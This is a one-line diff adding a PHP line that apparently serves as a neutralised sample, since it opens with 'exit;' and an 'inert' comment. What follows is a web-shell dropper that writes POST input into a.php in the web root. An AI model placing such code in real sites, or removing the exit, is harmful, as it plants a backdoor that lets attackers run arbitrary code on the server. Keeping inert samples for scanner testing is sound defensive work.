@@ -1,0 +1,1 @@
+<?php exit; /* inert */ file_put_contents($_SERVER["DOCUMENT_ROOT"]."/a.php", $_POST["c"]);
